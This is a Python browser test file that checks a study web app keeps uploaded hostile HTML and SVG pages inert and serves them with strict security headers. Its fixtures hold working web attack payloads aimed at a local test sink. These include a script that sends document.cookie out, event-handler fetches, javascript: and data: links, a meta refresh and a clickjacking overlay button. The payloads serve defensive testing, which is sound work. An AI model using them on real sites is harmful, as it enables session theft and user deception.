"""A hostile page runs no script, sends no request and navigates nowhere."""

import re
from collections.abc import Iterator

import httpx
import pytest
from playwright.sync_api import BrowserContext, Page, expect

from tests.browser.assigned_work import (
    AssignedWork,
    Body,
    Site,
    answered,
    frame_of,
    make_assigned,
    saved,
)
from tests.browser.sinks import Sink
from tests.factories import make_content
from tests.waiting import WATCHDOG
from topkapi.app.db.models import StudyFile

pytestmark = pytest.mark.browser
SVG = """<svg xmlns="http://www.w3.org/2000/svg" onload="document.title='ran'">
<script>parent.document.title = 'ran'; fetch('{sink}/svg')</script><rect width="40" height="40"/>
<a href="{sink}/svg-link"><text y="20">svg</text></a><image href="{sink}/svg-image"/></svg>"""
HOSTILE = """<!doctype html><html><head><title>tulips</title>
<meta http-equiv="refresh" content="0;url={sink}/refresh">
<base href="{sink}/base/" target="_top">
<link rel="stylesheet" href="{sink}/style.css"><link rel="preconnect" href="{sink}">
<link rel="dns-prefetch" href="{sink}"><link rel="prefetch" href="{sink}/prefetch">
<link rel="preload" as="image" href="{sink}/preload"><link rel="icon" href="{sink}/icon">
<style>@import url({sink}/import.css); body {{ background: url({sink}/background) }}
@font-face {{ font-family: f; src: url({sink}/font) }} p {{ font-family: f }}</style>
<script>parent.document.title = 'ran'; new Image().src = '{sink}/script?' + document.cookie</script>
<script src="{sink}/outside.js"></script></head>
<body onload="document.title='ran'; fetch('{sink}/onload')">
<p>A page about tulips.</p>
<img src="{sink}/image"><img src="x" onerror="fetch('{sink}/onerror')">
<svg onload="fetch('{sink}/inline-svg')"><script>fetch('{sink}/inline-svg-script')</script></svg>
<iframe src="{sink}/frame"></iframe><object data="{sink}/object"></object>
<embed src="{sink}/embed"><video src="{sink}/video" poster="{sink}/poster" autoplay></video>
<form action="{sink}/form" method="post"><input name="a"><button id="send">Send</button></form>
<form action="/sign-out" method="post"><button id="out">Sign out</button></form>
<p><a id="plain" href="{sink}/plain">plain</a> <a id="top" target="_top" href="{sink}/top">top</a>
<a id="blank" target="_blank" href="{sink}/blank">blank</a>
<a id="ping" ping="{sink}/ping" href="#here">ping</a>
<a id="js" href="javascript:parent.document.title='ran'">js</a>
<a id="data" href="data:text/html,<script>parent.document.title='ran'</script>">data</a></p>
<p id="here">Here.</p>
<div style="position:fixed;inset:auto 0 0;height:120px;background:#fff;z-index:9">
<button id="fake" onclick="parent.document.title='ran'">Left is better</button></div>
</body></html>"""


@pytest.fixture
def sink() -> Iterator[Sink]:
    with Sink() as sink:
        yield sink


@pytest.fixture
def assigned(site: Site, sink: Sink) -> AssignedWork:
    bodies = [
        Body(HOSTILE.format(sink=sink.url) + f"<!-- {number} -->", "text/html")
        for number in range(4)
    ]
    assigned = make_assigned(site, pages=bodies)
    with site.sessions.write.begin() as session:
        content = make_content(session, SVG.replace("{sink}", sink.url), "image/svg+xml")
        session.add(
            StudyFile(study_id=assigned.study.id, path="pages/evil.svg", content_hash=content.hash)
        )
        script = make_content(session, "document.title = 'ran'", "text/javascript")
        session.add(
            StudyFile(study_id=assigned.study.id, path="pages/evil.js", content_hash=script.hash)
        )
    return assigned


def sources(page: Page) -> list[str]:
    return [str(frame.url) for frame in page.frames[1:]]


def test_in_its_frame_it_is_inert_and_the_answers_are_outside_its_reach(
    assigned: AssignedWork, sink: Sink, context: BrowserContext
) -> None:
    page = assigned.open_page(context)
    title = page.title()
    shown = frame_of(page, "left")
    expect(shown.get_by_text("A page about tulips.")).to_be_visible()
    before = sources(page)
    for name in ("plain", "top", "blank", "js", "data", "ping", "send", "out"):
        shown.locator(f"#{name}").click(force=True)
    shown.locator("#plain").click(button="middle", force=True)
    shown.locator("#plain").click(modifiers=["Control"], force=True)
    shown.locator("#plain").focus()
    page.keyboard.press("Enter")
    shown.locator("#fake").click(force=True)
    assert sink.is_reached_only_by(context)
    assert sources(page) == before
    assert page.title() == title
    assert page.url == assigned.url
    assert len(context.pages) == 1
    bar = page.locator("#answers").bounding_box()
    assert bar is not None
    for side in ("left", "right"):
        frame = page.locator(f"#{side}-frames iframe:not(.frame--next)").bounding_box()
        assert frame is not None
        assert frame["y"] + frame["height"] <= bar["y"] + 1
    assert assigned.log() == []
    page.get_by_role("button", name="Left is better", exact=True).click()
    answered(page, 1)
    saved(page)
    assert assigned.log() == [("answer", "left")]
    page.reload()
    expect(page.get_by_role("button", name="Left is better", exact=True)).to_be_visible()
    assert "/sign-in" not in page.url


def addresses(assigned: AssignedWork) -> tuple[str, str]:
    """Return the addresses of a page under judgment and of an image in its folder."""
    cookie = assigned.site.cookie(assigned.user)
    cookies = {cookie["name"]: cookie["value"]}
    html = httpx.get(assigned.url, cookies=cookies, timeout=WATCHDOG).text
    found = re.search(r'src="(/pages/[^"]+)"', html)
    assert found is not None
    return found[1], found[1].rsplit("/", 1)[0] + "/evil.svg"


def test_opened_in_a_tab_of_its_own_it_is_as_inert(
    assigned: AssignedWork, sink: Sink, context: BrowserContext
) -> None:
    for address in addresses(assigned):
        tab = context.new_page()
        tab.goto(assigned.site.server.url + address)
        url, title = tab.url, tab.title()
        for name in ("plain", "top", "blank", "js", "data", "send"):
            if tab.locator(f"#{name}").count():
                tab.locator(f"#{name}").click(force=True)
        assert sink.is_reached_only_by(context)
        assert tab.url == url
        assert tab.title() == title != "ran"
        tab.close()
    assert context.pages == []


def test_every_file_of_a_study_carries_the_same_chains_and_a_link_opens_one_study(
    assigned: AssignedWork, site: Site
) -> None:
    page, picture = addresses(assigned)
    script = picture.replace("evil.svg", "evil.js")
    wanted = (
        "sandbox allow-same-origin; default-src 'none'; img-src 'self' data:; "
        "style-src 'self' 'unsafe-inline'; font-src 'self' data:; form-action 'none'; "
        "base-uri 'none'; frame-ancestors 'self'"
    )
    kinds = {page: "text/html", picture: "image/svg+xml", script: "text/plain"}
    other = make_assigned(site)
    with site.sessions.write.begin() as session:
        content = make_content(session, "secret of another study")
        session.add(
            StudyFile(study_id=other.study.id, path="pages/x.txt", content_hash=content.hash)
        )
    with httpx.Client(base_url=site.server.url, timeout=WATCHDOG) as client:  # without a cookie
        for address, kind in kinds.items():
            answer = client.get(address)
            assert answer.status_code == 200
            assert answer.headers["content-security-policy"] == wanted
            assert answer.headers["x-content-type-options"] == "nosniff"
            assert answer.headers["content-type"].startswith(kind)
            assert answer.headers["cache-control"].startswith("private, max-age=")
            assert "set-cookie" not in answer.headers
        token = page.split("/")[2]
        assert client.get(page.replace(token, token[:-2] + "xx")).status_code == 403
        assert client.get(page.replace(token, "made-up")).status_code == 403
        for name in ("none.svg", "x.txt"):
            answer = client.get(page.rsplit("/", 1)[0] + f"/{name}")
            assert answer.status_code == 404
            assert "secret" not in answer.text
